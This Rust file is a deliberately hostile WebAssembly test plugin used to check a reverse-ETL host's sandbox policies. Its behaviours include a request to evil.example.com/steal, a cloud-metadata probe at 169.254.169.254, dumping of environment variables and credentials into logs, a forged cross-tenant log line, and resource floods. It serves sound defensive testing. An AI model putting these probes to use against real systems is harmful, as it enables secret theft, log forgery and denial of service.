//! A deliberately misbehaving destination plugin, used by the host's tests.
//!
//! Every call reads the setting `behaviour` and misbehaves in one way, one per limit the host
//! enforces. Other settings: `host` (default `acme.gladly.com`), `username` (default `hostile`),
//! `count` (requests for `many-requests`, `request-flood` and `log-flood`, default 20), `sleep-ms`
//! (for `sleep`, default one hour), `extra-host` (a second host `validate-config` declares),
//! `poison-key` (the row the `trap-on-key` behaviours trap on) and `hold-ms` (how long the server
//! holds each `request-flood` request).
//!
//! Only meaningful as a `wasm32-wasip2` component: on other targets the crate is empty, so native
//! `cargo build --workspace` / `cargo clippy --workspace` still work.
#![cfg(target_arch = "wasm32")]

wit_bindgen::generate!({
    path: "../../../wit/v0.1.0",
    world: "plugin",
    with: {
        "wasi:http/outgoing-handler@0.2.2": waki::bindings::wasi::http::outgoing_handler,
        "wasi:http/types@0.2.2": waki::bindings::wasi::http::types,
        "wasi:io/error@0.2.2": waki::bindings::wasi::io::error,
        "wasi:io/poll@0.2.2": waki::bindings::wasi::io::poll,
        "wasi:io/streams@0.2.2": waki::bindings::wasi::io::streams,
        "wasi:clocks/monotonic-clock@0.2.2": waki::bindings::wasi::clocks::monotonic_clock,
    },
});

use exports::reverse_etl::destination::destination::Guest;
use reverse_etl::destination::host::{Level, log};
use reverse_etl::destination::types::{
    BasicCredential, BatchContext, ConfigField, ConfigProblem, ConnectionInfo, Credential,
    DestinationSpec, Error, ErrorCategory, ErrorCode as Code, FieldMapping, MappedRecord,
    ModeSupport, Outcome, RecordResult, ResolvedConfig, Row, RowError, Setting, SyncItem, SyncMode,
};
use waki::bindings::wasi::clocks::monotonic_clock;
use waki::bindings::wasi::http::outgoing_handler::{self, FutureIncomingResponse};
use waki::bindings::wasi::http::types::{
    ErrorCode as WasiError, Fields, IncomingResponse, Method, OutgoingBody, OutgoingRequest, Scheme,
};
use waki::bindings::wasi::io::{poll, streams::StreamError};

const DEFAULT_HOST: &str = "acme.gladly.com";
const ORGANIZATION: &str = "/api/v1/organization";

struct Component;
export!(Component);

// ---------------------------------------------------------------------------------------------
// Behaviours. Each returns the results of `sync-batch` for `items`.
// ---------------------------------------------------------------------------------------------

/// Control: one GET to the configured host, then one `created` result per item.
fn well_behaved(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let reply = get(Scheme::Https, &host(cfg), ORGANIZATION, None);
    all_items(items, reply.map(|r| format!("status {}", r.status)))
}

/// Egress allowlist: a request to a host `validate-config` never declared.
fn other_host(items: &[SyncItem]) -> Vec<RecordResult> {
    let reply = get(Scheme::Https, "evil.example.com", "/steal", None);
    all_items(items, reply.map(|r| format!("status {}", r.status)))
}

/// Scheme policy: plain `http://` to the allowed host.
fn plain_http(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let reply = get(Scheme::Http, &host(cfg), ORGANIZATION, None);
    all_items(items, reply.map(|r| format!("status {}", r.status)))
}

/// Credential policy: the plugin sets its own `Authorization` header.
fn set_authorization(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    // base64("hostile:guessed-password")
    let header = ("authorization", "Basic aG9zdGlsZTpndWVzc2VkLXBhc3N3b3Jk");
    let reply = get(Scheme::Https, &host(cfg), ORGANIZATION, Some(header));
    all_items(items, reply.map(|r| format!("status {}", r.status)))
}

/// Secret hygiene: echo everything visible (response status, headers and body, environment,
/// arguments, config) into the result message and the log, so a test can look for the secret.
fn leak_attempt(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let mut seen = String::new();
    match get(Scheme::Https, &host(cfg), ORGANIZATION, None) {
        Ok(reply) => {
            seen += &format!("status: {}\n", reply.status);
            for (name, value) in &reply.headers {
                seen += &format!("header {name}: {}\n", String::from_utf8_lossy(value));
            }
            seen += &format!("body: {}\n", String::from_utf8_lossy(&reply.body));
        }
        Err(e) => seen += &format!("request error: {}\n", e.message),
    }
    for (name, value) in std::env::vars() {
        seen += &format!("env {name}={value}\n");
    }
    for arg in std::env::args() {
        seen += &format!("arg {arg}\n");
    }
    for s in cfg {
        seen += &format!("setting {}={}\n", s.key, s.value);
    }
    log(Level::Info, &seen);
    all_items(items, Err(failure(Code::UnexpectedResponse, seen)))
}

/// Epoch deadline: a loop that never yields and never calls the host.
fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

/// Wall-clock deadline: block in `wasi:clocks` subscribe + `wasi:io/poll` for a very long time.
fn sleep(cfg: &[Setting]) {
    let ms: u64 = setting(cfg, "sleep-ms")
        .and_then(|v| v.parse().ok())
        .unwrap_or(3_600_000);
    let pollable = monotonic_clock::subscribe_duration(ms.saturating_mul(1_000_000));
    poll::poll(&[&pollable]);
}

/// Memory cap: keep 16 MiB blocks alive until allocation fails (or the limiter traps).
fn memory_hog() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block = vec![0u8; 16 << 20];
        block[0] = 1;
        hoard.push(std::hint::black_box(block));
    }
}

/// Trap handling: a Rust panic (aborts the instance).
fn panic_now(context: &str) -> ! {
    panic!("hostile-guest: deliberate panic in {context}");
}

/// Trap handling: a raw `unreachable` instruction.
fn trap() -> ! {
    core::arch::wasm32::unreachable()
}

/// Result check "one result per item": one result fewer than items (one stray result for none).
fn wrong_count(items: &[SyncItem]) -> Vec<RecordResult> {
    if items.is_empty() {
        return vec![created("stray", 0)];
    }
    items[1..].iter().map(|i| created(&i.row.key, 0)).collect()
}

/// Result check "results keyed by item": right count, wrong keys.
fn wrong_keys(items: &[SyncItem]) -> Vec<RecordResult> {
    items
        .iter()
        .map(|i| created(&format!("not-{}", i.row.key), 0))
        .collect()
}

/// Per-request timeout: GET `/slow`, which the test server never answers.
fn slow_server(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let reply = get(Scheme::Https, &host(cfg), "/slow", None);
    all_items(items, reply.map(|r| format!("status {}", r.status)))
}

/// Rate limiter: start `count` GETs at once, then wait for all of them. Item `i` reports the
/// statuses of requests `i`, `i + items`, `i + 2 * items`, …
fn many_requests(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let count: usize = setting(cfg, "count")
        .and_then(|v| v.parse().ok())
        .unwrap_or(20);
    let host = host(cfg);
    let pending: Vec<_> = (0..count)
        .map(|_| start(Scheme::Https, &host, ORGANIZATION, None))
        .collect();
    let replies: Vec<Result<Reply, Error>> =
        pending.into_iter().map(|p| p.and_then(finish)).collect();
    let n = items.len().max(1);
    items
        .iter()
        .enumerate()
        .map(|(i, item)| {
            let mine: Vec<_> = replies.iter().skip(i).step_by(n).collect();
            let statuses: Vec<String> = mine
                .iter()
                .map(|r| match r {
                    Ok(reply) => reply.status.to_string(),
                    Err(e) => e.message.clone(),
                })
                .collect();
            let requests = mine.len() as u32;
            match mine.iter().find_map(|r| r.as_ref().err()) {
                Some(e) => failed(&item.row.key, e.clone(), requests),
                None => RecordResult {
                    remote_id: Some(statuses.join(",")),
                    ..created(&item.row.key, requests)
                },
            }
        })
        .collect()
}

/// Credential binding: a request to the second declared host (`extra-host`), which the operator
/// granted too; its echo of the request headers is the remote id.
fn credential_elsewhere(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let extra = setting(cfg, "extra-host").unwrap_or_else(|| "collector.example.net".into());
    let reply = get(Scheme::Https, &extra, "/_hostile/echo-headers", None);
    all_items(items, reply.map(|r| format!("status {} {}", r.status, String::from_utf8_lossy(&r.body))))
}

/// Output scrubbing: the API host echoes the request headers (the Basic credential included);
/// the plugin logs them, prints them, and returns them as the first item's remote id and
/// payload and as every other item's error message.
fn echo_token(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let echoed = match get(Scheme::Https, &host(cfg), "/_hostile/echo-headers", None) {
        Ok(r) => String::from_utf8_lossy(&r.body).into_owned(),
        Err(e) => return items.iter().map(|i| failed(&i.row.key, e.clone(), 1)).collect(),
    };
    log(Level::Warn, &format!("echoed: {echoed}"));
    println!("echoed: {echoed}");
    items
        .iter()
        .enumerate()
        .map(|(i, item)| {
            if i == 0 {
                RecordResult {
                    remote_id: Some(echoed.clone()),
                    confirmed_payload: Some(echoed.clone()),
                    ..created(&item.row.key, 1)
                }
            } else {
                failed(&item.row.key, failure(Code::Rejected, format!("echoed: {echoed}")), 0)
            }
        })
        .collect()
}

/// Header map cap: append 1 KiB headers to one header map, logging the running total, until the
/// host stops it (the host traps the instance when a map outgrows its limit).
fn header_flood(items: &[SyncItem]) -> Vec<RecordResult> {
    let fields = Fields::new();
    let value = vec![b'v'; 1024];
    let mut appended = 0usize;
    for i in 0..1024 {
        match fields.append(&format!("x-flood-{i}"), &value) {
            Ok(()) => {
                appended += 1024;
                log(Level::Info, &format!("header-flood: {appended} bytes appended"));
            }
            Err(e) => return all_items(items, Ok(format!("{appended} {e:?}"))),
        }
    }
    all_items(items, Ok(format!("{appended} none")))
}

/// In-flight cap: start `count` requests the server holds for `hold-ms` before answering, then
/// wait for all; the remote id is `"ok=<answered> denied=<refused>"`.
fn request_flood(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let count: usize = setting(cfg, "count").and_then(|v| v.parse().ok()).unwrap_or(20);
    let hold: u64 = setting(cfg, "hold-ms").and_then(|v| v.parse().ok()).unwrap_or(300);
    let host = host(cfg);
    let path = format!("/_hostile/hold/{hold}");
    let pending: Vec<_> = (0..count).map(|_| start(Scheme::Https, &host, &path, None)).collect();
    let (mut ok, mut denied) = (0, 0);
    for p in pending {
        match p.and_then(finish) {
            Ok(_) => ok += 1,
            Err(e) if e.message.contains("HttpRequestDenied") => denied += 1,
            Err(_) => {}
        }
    }
    all_items(items, Ok(format!("ok={ok} denied={denied}")))
}

/// Request body cap: POST a body of `count` bytes, written 4 KiB at a time (write errors are
/// ignored: the host's answer comes with the response).
fn big_request(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let count: usize = setting(cfg, "count").and_then(|v| v.parse().ok()).unwrap_or(20);
    let authority = host(cfg);
    let url = format!("https://{authority}/_hostile/sink");
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(&Method::Post);
    let _ = request.set_scheme(Some(&Scheme::Https));
    let _ = request.set_authority(Some(&authority));
    let _ = request.set_path_with_query(Some("/_hostile/sink"));
    let Ok(body) = request.body() else { return all_items(items, Ok("no body".into())) };
    let pending = match outgoing_handler::handle(request, None) {
        Ok(p) => p,
        Err(e) => return all_items(items, Err(wasi_failure(&url, e))),
    };
    if let Ok(stream) = body.write() {
        let chunk = vec![b'b'; 4096];
        let mut sent = 0;
        while sent < count {
            let n = chunk.len().min(count - sent);
            if stream.blocking_write_and_flush(&chunk[..n]).is_err() {
                break;
            }
            sent += n;
        }
        drop(stream);
    }
    let _ = OutgoingBody::finish(body, None);
    let reply = finish((url, pending));
    all_items(items, reply.map(|r| format!("status {} {}", r.status, String::from_utf8_lossy(&r.body))))
}

/// Resource-table cap: hold 200,000 host resources (empty header maps) at once.
fn resource_flood(items: &[SyncItem]) -> Vec<RecordResult> {
    let held: Vec<Fields> = (0..200_000).map(|_| Fields::new()).collect();
    all_items(items, Ok(format!("held {}", held.len())))
}

/// Log budget and forged lines: one line that tries to start a new log line under another
/// tenant's name, then `count` lines of 1 KiB.
fn log_flood(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let count: usize = setting(cfg, "count").and_then(|v| v.parse().ok()).unwrap_or(20);
    log(Level::Info, "ok\n2026-12-02T06:00:00.000000Z  INFO tenant=victim: plugin: FORGED-LINE");
    let filler = "f".repeat(1000);
    for i in 0..count {
        log(Level::Info, &format!("flood {i:05} {filler}"));
    }
    items.iter().map(|i| created(&i.row.key, 0)).collect()
}

/// A poison row: trap when the batch holds the `poison-key` row, succeed otherwise.
fn trap_on_key(cfg: &[Setting], items: &[SyncItem]) -> Vec<RecordResult> {
    let poison = setting(cfg, "poison-key").unwrap_or_default();
    if items.iter().any(|i| i.row.key == poison) {
        trap();
    }
    items.iter().map(|i| created(&i.row.key, 0)).collect()
}

/// Retry hint cap: every item fails as retryable, asking for a wait of `u64::MAX` ms.
fn huge_retry_after_ms(items: &[SyncItem]) -> Vec<RecordResult> {
    items
        .iter()
        .map(|i| {
            let mut e = failure(Code::RateLimited, "wait for ever".into());
            e.category = ErrorCategory::RetryLater;
            e.retryable = true;
            e.retry_after_ms = Some(u64::MAX);
            failed(&i.row.key, e, 1)
        })
        .collect()
}

/// Runs the configured behaviour for `sync-batch` (and, with one pseudo item, `check-connection`).
fn behave(cfg: &[Setting], items: &[SyncItem]) -> Result<Vec<RecordResult>, Error> {
    let behaviour = setting(cfg, "behaviour").unwrap_or_default();
    Ok(match behaviour.as_str() {
        "well-behaved" => well_behaved(cfg, items),
        "other-host" => other_host(items),
        "plain-http" => plain_http(cfg, items),
        "set-authorization" => set_authorization(cfg, items),
        "leak-attempt" => leak_attempt(cfg, items),
        "spin" => spin(),
        "sleep" => {
            sleep(cfg);
            items.iter().map(|i| created(&i.row.key, 0)).collect()
        }
        "memory-hog" => memory_hog(),
        "panic" => panic_now("sync"),
        "trap" => trap(),
        "wrong-count" => wrong_count(items),
        "wrong-keys" => wrong_keys(items),
        "slow-server" => slow_server(cfg, items),
        "many-requests" => many_requests(cfg, items),
        "panic-in-map" => items.iter().map(|i| created(&i.row.key, 0)).collect(),
        "credential-elsewhere" => credential_elsewhere(cfg, items),
        "echo-token" => echo_token(cfg, items),
        "header-flood" => header_flood(items),
        "request-flood" => request_flood(cfg, items),
        "resource-flood" => resource_flood(items),
        "big-response" => {
            let n = setting(cfg, "count").unwrap_or_else(|| "20".into());
            let reply = get(Scheme::Https, &host(cfg), &format!("/_hostile/bytes/{n}"), None);
            all_items(items, reply.map(|r| format!("status {} {} bytes", r.status, r.body.len())))
        }
        "big-request" => big_request(cfg, items),
        "metadata-address" => {
            let reply = get(Scheme::Https, "169.254.169.254", "/latest/meta-data/", None);
            all_items(items, reply.map(|r| format!("status {}", r.status)))
        }
        "log-flood" => log_flood(cfg, items),
        // 40 KiB on stdout per batch, then every record "created": harmless in a fresh
        // instance per call (the capture holds 64 KiB), a trap in an instance kept for a second.
        "chatty" => {
            println!("{}", "chatter ".repeat(5 * 1024));
            items.iter().map(|i| created(&i.row.key, 0)).collect()
        }
        "trap-on-key" => trap_on_key(cfg, items),
        "trap-on-key-in-map" => items.iter().map(|i| created(&i.row.key, 0)).collect(),
        "huge-retry-after" => {
            let reply = get(Scheme::Https, &host(cfg), "/_hostile/status/429?retry_after=1e20", None);
            all_items(items, reply.map(|r| format!("status {}", r.status)))
        }
        "huge-retry-after-ms" => huge_retry_after_ms(items),
        "trace-method" => {
            let reply = start_with(&Method::Trace, Scheme::Https, &host(cfg), ORGANIZATION, None).and_then(finish);
            all_items(items, reply.map(|r| format!("status {}", r.status)))
        }
        "userinfo" => {
            let authority = format!("user:pw@{}", host(cfg));
            let reply = get(Scheme::Https, &authority, ORGANIZATION, None);
            all_items(items, reply.map(|r| format!("status {}", r.status)))
        }
        other => {
            let mut e = failure(Code::InvalidConfig, format!("unknown behaviour {other:?}"));
            e.field = Some("behaviour".into());
            return Err(e);
        }
    })
}

// ---------------------------------------------------------------------------------------------
// The contract.
// ---------------------------------------------------------------------------------------------

impl Guest for Component {
    fn spec() -> DestinationSpec {
        let field = |key: &str, required: bool, default: Option<&str>| ConfigField {
            key: key.into(),
            label: key.into(),
            description: format!("The `{key}` setting of the hostile test plugin."),
            required,
            default_value: default.map(Into::into),
            example: None,
        };
        let modes = [
            SyncMode::Upsert,
            SyncMode::Insert,
            SyncMode::Update,
            SyncMode::Mirror,
            SyncMode::AudienceAdd,
            SyncMode::AudienceRemove,
            SyncMode::AudienceMirror,
            SyncMode::AudienceUpsert,
        ];
        DestinationSpec {
            name: "hostile".into(),
            title: "Hostile test plugin".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "Misbehaves on purpose so the host's policies can be tested.".into(),
            config_fields: vec![
                field("behaviour", true, None),
                field("host", false, Some(DEFAULT_HOST)),
                field("username", false, Some("hostile")),
                field("count", false, Some("20")),
                field("sleep-ms", false, Some("3600000")),
                field("extra-host", false, None),
                field("poison-key", false, None),
                field("hold-ms", false, Some("300")),
            ],
            target_fields: vec![],
            accepts_custom_fields: true,
            schema_introspection: false,
            modes: modes
                .into_iter()
                .map(|mode| {
                    let supported = mode == SyncMode::Upsert;
                    let reason = if supported {
                        ""
                    } else {
                        "not supported by the test plugin"
                    };
                    ModeSupport {
                        mode,
                        supported,
                        reason: reason.into(),
                    }
                })
                .collect(),
            credential: Credential::Basic(BasicCredential {
                username_key: "username".into(),
                secret_description: "Any test secret.".into(),
            }),
            suggested_rate_per_second: 10,
            suggested_timeout_ms: 2_000,
            suggested_max_retries: 0,
            suggested_concurrency: 1,
        }
    }

    fn validate_config(
        config: Vec<Setting>,
        _mode: SyncMode,
        _mapping: Vec<FieldMapping>,
    ) -> Result<ResolvedConfig, Vec<ConfigProblem>> {
        let host = host(&config);
        let username = setting(&config, "username").unwrap_or_else(|| "hostile".into());
        let mut settings = config.clone();
        for (key, value) in [("host", host.as_str()), ("username", username.as_str())] {
            if setting(&config, key).is_none() {
                settings.push(Setting {
                    key: key.into(),
                    value: value.into(),
                });
            }
        }
        let mut egress_hosts = vec![host.clone()];
        egress_hosts.extend(setting(&config, "extra-host"));
        Ok(ResolvedConfig {
            egress_hosts,
            base_url: format!("https://{host}"),
            rate_limit_key: host,
            username: Some(username),
            settings,
        })
    }

    fn check_connection(config: Vec<Setting>) -> Result<ConnectionInfo, Error> {
        let probe = SyncItem {
            row: Row {
                key: "check-connection".into(),
                columns: vec![],
            },
            known_id: None,
            previous_payload: None,
        };
        match behave(&config, &[probe])?.into_iter().next() {
            Some(RecordResult { error: Some(e), .. }) => Err(e),
            Some(r) => Ok(ConnectionInfo {
                account: r.remote_id,
            }),
            None => Ok(ConnectionInfo { account: None }),
        }
    }

    fn map_row(
        config: Vec<Setting>,
        _mapping: Vec<FieldMapping>,
        row: Row,
    ) -> Result<MappedRecord, RowError> {
        Ok(map_one(&config, row))
    }

    fn map_rows(
        config: Vec<Setting>,
        _mapping: Vec<FieldMapping>,
        rows: Vec<Row>,
    ) -> Vec<Result<MappedRecord, RowError>> {
        rows.into_iter()
            .map(|row| Ok(map_one(&config, row)))
            .collect()
    }

    fn sync_batch(
        _context: BatchContext,
        config: Vec<Setting>,
        _mode: SyncMode,
        _mapping: Vec<FieldMapping>,
        items: Vec<SyncItem>,
    ) -> Result<Vec<RecordResult>, Error> {
        behave(&config, &items)
    }
}

/// Trap handling in the pure mapping calls: `behaviour = panic-in-map` panics there.
fn map_one(cfg: &[Setting], row: Row) -> MappedRecord {
    if setting(cfg, "behaviour").as_deref() == Some("panic-in-map") {
        panic_now("map");
    }
    if setting(cfg, "behaviour").as_deref() == Some("trap-on-key-in-map")
        && setting(cfg, "poison-key").as_deref() == Some(row.key.as_str())
    {
        trap();
    }
    MappedRecord {
        key: row.key,
        payload: "{}".into(),
        match_value: None,
        remote_id: None,
    }
}

// ---------------------------------------------------------------------------------------------
// Helpers.
// ---------------------------------------------------------------------------------------------

fn setting(cfg: &[Setting], key: &str) -> Option<String> {
    cfg.iter().find(|s| s.key == key).map(|s| s.value.clone())
}

fn host(cfg: &[Setting]) -> String {
    setting(cfg, "host").unwrap_or_else(|| DEFAULT_HOST.into())
}

/// An error the host should not retry (these tests want one attempt per behaviour).
fn failure(code: Code, message: String) -> Error {
    let category = match code {
        Code::EgressDenied | Code::InvalidConfig | Code::PluginFailure => ErrorCategory::FixConfig,
        Code::UnexpectedResponse => ErrorCategory::SkipRecord,
        _ => ErrorCategory::RetryLater,
    };
    Error {
        code,
        category,
        message,
        field: None,
        http_status: None,
        api_errors: vec![],
        retryable: false,
        retry_after_ms: None,
    }
}

fn created(key: &str, requests: u32) -> RecordResult {
    RecordResult {
        key: key.into(),
        outcome: Outcome::Created,
        remote_id: None,
        confirmed_payload: None,
        error: None,
        requests,
    }
}

fn failed(key: &str, error: Error, requests: u32) -> RecordResult {
    RecordResult {
        outcome: Outcome::Failed,
        error: Some(error),
        ..created(key, requests)
    }
}

/// One result per item: `created` (remote id = e.g. `status 200`) or `failed` with the error; the
/// single request is counted on the first item.
fn all_items(items: &[SyncItem], reply: Result<String, Error>) -> Vec<RecordResult> {
    items
        .iter()
        .enumerate()
        .map(|(i, item)| {
            let requests = u32::from(i == 0);
            match &reply {
                Ok(ok) => RecordResult {
                    remote_id: Some(ok.clone()),
                    ..created(&item.row.key, requests)
                },
                Err(e) => failed(&item.row.key, e.clone(), requests),
            }
        })
        .collect()
}

/// What came back from one request.
struct Reply {
    status: u16,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
}

/// Sends a request and waits for the whole response.
fn get(
    scheme: Scheme,
    authority: &str,
    path: &str,
    header: Option<(&str, &str)>,
) -> Result<Reply, Error> {
    start(scheme, authority, path, header).and_then(finish)
}

/// Builds and hands a GET to `wasi:http/outgoing-handler` without waiting for it. Any refusal is
/// reported with the Debug text of the wasi error, so tests can assert on it.
fn start(
    scheme: Scheme,
    authority: &str,
    path: &str,
    header: Option<(&str, &str)>,
) -> Result<(String, FutureIncomingResponse), Error> {
    start_with(&Method::Get, scheme, authority, path, header)
}

/// [`start`] with another method.
fn start_with(
    method: &Method,
    scheme: Scheme,
    authority: &str,
    path: &str,
    header: Option<(&str, &str)>,
) -> Result<(String, FutureIncomingResponse), Error> {
    let url = format!(
        "{}://{authority}{path}",
        if matches!(scheme, Scheme::Http) {
            "http"
        } else {
            "https"
        }
    );
    let entries: Vec<(String, Vec<u8>)> = header
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.as_bytes().to_vec()))
        .collect();
    let headers = Fields::from_list(&entries).map_err(|e| {
        failure(
            Code::EgressDenied,
            format!("GET {url}: header refused: {e:?}"),
        )
    })?;
    let request = OutgoingRequest::new(headers);
    let refused = |what: &str| failure(Code::EgressDenied, format!("GET {url}: {what} refused"));
    request
        .set_method(method)
        .map_err(|()| refused("method"))?;
    request
        .set_scheme(Some(&scheme))
        .map_err(|()| refused("scheme"))?;
    request
        .set_authority(Some(authority))
        .map_err(|()| refused("authority"))?;
    request
        .set_path_with_query(Some(path))
        .map_err(|()| refused("path"))?;
    let pending = outgoing_handler::handle(request, None).map_err(|e| wasi_failure(&url, e))?;
    Ok((url, pending))
}

/// Waits for a response started by [`start`] and reads all of it.
fn finish((url, pending): (String, FutureIncomingResponse)) -> Result<Reply, Error> {
    let response: IncomingResponse = loop {
        match pending.get() {
            Some(Ok(Ok(response))) => break response,
            Some(Ok(Err(e))) => return Err(wasi_failure(&url, e)),
            Some(Err(())) => {
                return Err(failure(
                    Code::PluginFailure,
                    format!("GET {url}: response taken twice"),
                ));
            }
            None => pending.subscribe().block(),
        }
    };
    let status = response.status();
    let headers = response.headers().entries();
    let mut body = Vec::new();
    // The stream (a child of the body) is dropped before the body, as wasi-http requires.
    if let Ok(incoming) = response.consume()
        && let Ok(stream) = incoming.stream()
    {
        loop {
            match stream.blocking_read(64 * 1024) {
                Ok(chunk) => body.extend(chunk),
                Err(StreamError::Closed) => break,
                Err(StreamError::LastOperationFailed(e)) => {
                    let message = format!("GET {url}: body: {}", e.to_debug_string());
                    return Err(failure(Code::Transport, message));
                }
            }
        }
    }
    Ok(Reply {
        status,
        headers,
        body,
    })
}

/// Turns a wasi-http error into a result error whose message holds its Debug text
/// (`ErrorCode::HttpRequestDenied`, `ErrorCode::ConnectionReadTimeout`, …).
fn wasi_failure(url: &str, e: WasiError) -> Error {
    let code = match e {
        WasiError::ConnectionTimeout
        | WasiError::ConnectionReadTimeout
        | WasiError::ConnectionWriteTimeout
        | WasiError::HttpResponseTimeout => Code::Timeout,
        WasiError::DnsTimeout
        | WasiError::DnsError(_)
        | WasiError::ConnectionRefused
        | WasiError::ConnectionTerminated
        | WasiError::TlsProtocolError => Code::Transport,
        _ => Code::EgressDenied,
    };
    failure(code, format!("GET {url}: {e:?}"))
}
